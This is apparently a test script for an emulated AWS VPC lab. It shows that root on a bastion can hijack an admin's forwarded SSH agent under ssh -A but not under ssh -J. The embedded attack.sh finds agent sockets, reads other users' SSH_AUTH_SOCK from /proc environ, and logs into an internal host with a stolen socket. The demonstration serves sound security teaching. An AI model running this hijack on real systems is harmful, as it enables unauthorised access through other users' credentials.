#!/usr/bin/env bash
# SPDX-License-Identifier: MIT
# Agent hijack (security checklist 26): the risk the tutorial warns about
# when it forwards the agent.  The walkthrough's Bastion is taken to be
# compromised: root on it (`localvpc exec`) plays the attacker.
#   - While the admin is logged in with `ssh -A`, root finds the forwarded
#     agent socket (/tmp/ssh-*/agent.*, also named by SSH_AUTH_SOCK in the
#     admin's session) and, with no key of its own, logs into the internal
#     instance as ec2-user through it: the agent signs for whoever can open
#     the socket, and root can open any.
#   - While the admin is connected through the same bastion with ProxyJump
#     (`ssh -J`), the bastion only relays the TCP stream: root finds no
#     socket and cannot log in.
source "$(dirname "$0")/../../lib/netns.sh"
source "$(dirname "$0")/../../lib/daemon.sh"
require_root
[ -d /var/cache/localvpc/images/debian-12/root ] || fail "image missing: run scripts/build-image"

daemon_start
audit_prefix "$LV_PREFIX"
work=$(dirname "$LV_STATE")
ENDPOINT=$LV_ENDPOINT KEYDIR=$work/keys AWS_CONFIG_FILE=/dev/null AWS_SHARED_CREDENTIALS_FILE=/dev/null \
	bash "$(dirname "$0")/../../../examples/bastion-nat/walkthrough.sh" >"$work/walk.log" 2>&1 ||
	{ cat "$work/walk.log"; fail "the walkthrough failed"; }
id_of() { ec2 describe-instances --filters "Name=tag:Name,Values=$1" --query 'Reservations[0].Instances[0].InstanceId'; }
q() { ec2 describe-instances --instance-ids "$1" --query "Reservations[0].Instances[0].$2"; }
bastion_id=$(id_of Bastion) internal_id=$(id_of "Internal Instance")
bastion=$(q "$bastion_id" PublicIpAddress) internal=$(q "$internal_id" PrivateIpAddress)
in_pool "$bastion" || fail "the bastion's address $bastion is not in the emulated pool"
sshd_wait "$bastion_id" "$internal_id"

printf 'Host *\n  StrictHostKeyChecking no\n  UserKnownHostsFile /dev/null\n  BatchMode yes\n  ConnectTimeout 5\n  LogLevel ERROR\n' >"$work/ssh_config"
eval "$(ssh-agent -s)" >/dev/null
push_teardown "kill $SSH_AGENT_PID"
ssh-add -q "$work/keys/BastionKeyPair.pem" "$work/keys/NatKeyPair.pem"
SSH=(ssh -F "$work/ssh_config")
wait_until 30 "${SSH[@]}" "ec2-user@$bastion" true || fail "ssh to the bastion from My IP"

# The attacker, root on the bastion: every agent socket in /tmp and every
# SSH_AUTH_SOCK in a running process's environment, each tried in turn for
# a login to the internal instance; last, root's own keys (it has none).
# The sandbox keeps Docker's capabilities, without CAP_SYS_PTRACE, so root
# reads a process's environment as its owner (CAP_SETUID: setpriv); root
# opens another user's socket with CAP_DAC_OVERRIDE, as on EC2.
cat >"$work/attack.sh" <<'EOA'
internal=$1
opts="-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes -o ConnectTimeout=5 -o LogLevel=ERROR"
socks=$({ ls /tmp/ssh-*/agent.* 2>/dev/null
	for p in /proc/[0-9]*; do
		setpriv --reuid="$(stat -c %u "$p")" --regid="$(stat -c %g "$p")" --clear-groups \
			cat "$p/environ" 2>/dev/null | tr '\0' '\n' | sed -n 's/^SSH_AUTH_SOCK=//p'
	done; } | sort -u)
for s in $socks; do
	echo "socket: $s"
	[ -S "$s" ] || continue
	SSH_AUTH_SOCK=$s ssh $opts "ec2-user@$internal" 'echo "in as $(id -un) on $(hostname)"' && exit 0
done
env -u SSH_AUTH_SOCK ssh $opts "ec2-user@$internal" true && { echo "in with root's own key"; exit 0; }
echo "no way in"
exit 1
EOA
attack() { lv_exec "$bastion_id" bash -c "$(cat "$work/attack.sh")" attack "$internal"; }
hold_fifo=$work/hold
mkfifo "$hold_fifo"
exec 7<>"$hold_fifo" # the admin's sessions read this; it never ends
# session OUT SSH-ARGS...: an admin session left open (remote `cat`), its pid in SESSION_PID.
session() {
	local out=$1
	shift
	"${SSH[@]}" "$@" 'echo ready; exec cat' <&7 >"$out" 2>&1 &
	SESSION_PID=$!
	push_teardown "kill $SESSION_PID"
	audit_pid "$SESSION_PID"
	wait_until 30 grep -qx ready "$out" || { cat "$out"; fail "the admin's session ($*) did not start"; }
}
no_socket() { lv_exec "$bastion_id" bash -c '! compgen -G "/tmp/ssh-*/agent.*"'; }
no_socket || fail "an agent socket on the bastion before any ssh -A"

# 1. The admin logs in with ssh -A and leaves the session open.
session "$work/a.out" -A "ec2-user@$bastion"
sock=$(lv_exec "$bastion_id" bash -c 'ls /tmp/ssh-*/agent.*') || fail "no agent socket while ssh -A is open"
env_sock=$(lv_exec "$bastion_id" bash -c 'for p in $(pgrep -u ec2-user); do runuser -u ec2-user -- cat /proc/$p/environ; done 2>/dev/null | tr "\0" "\n"' |
	sed -n 's/^SSH_AUTH_SOCK=//p' | sort -u)
[ "$env_sock" = "$sock" ] || fail "the admin's session names SSH_AUTH_SOCK=$env_sock, not $sock"
echo "ok: ssh -A leaves $sock on the bastion, the admin session's SSH_AUTH_SOCK"
got=$(attack 2>&1) || { echo "$got"; fail "root on the bastion could not use the forwarded agent"; }
echo "$got" | grep -qxF "in as ec2-user on ip-${internal//./-}" || fail "the hijack landed elsewhere: $got"
echo "ok: root on the bastion used $sock to log into $internal as ec2-user (the risk of ssh -A)"
kill "$SESSION_PID"
wait "$SESSION_PID" 2>/dev/null || true
wait_until 20 no_socket || fail "the agent socket outlived the ssh -A session"
expect_denied "with the ssh -A session closed, root on the bastion has no way in" attack

# 2. The admin reaches the internal instance with ssh -J and stays connected.
session "$work/j.out" -J "ec2-user@$bastion" "ec2-user@$internal"
lv_exec "$bastion_id" ss -Htn state established dst "$internal:22" | grep -q . ||
	fail "the ssh -J session is not relayed by this bastion"
lv_exec "$bastion_id" pgrep -u ec2-user sshd >/dev/null || fail "no ec2-user sshd on the bastion during ssh -J"
echo "ok: the admin's ssh -J session runs through the bastion ($bastion -> $internal:22)"
no_socket || fail "ssh -J left an agent socket on the bastion"
got=$(attack 2>&1) && { echo "$got"; fail "root on the bastion got in during ssh -J"; }
echo "$got" | grep -q '^socket: ' && fail "the attacker found a socket during ssh -J: $got"
echo "ok (denied): during ssh -J root on the bastion finds no agent socket and cannot log into $internal"
kill "$SESSION_PID"
wait "$SESSION_PID" 2>/dev/null || true
echo "PASS"
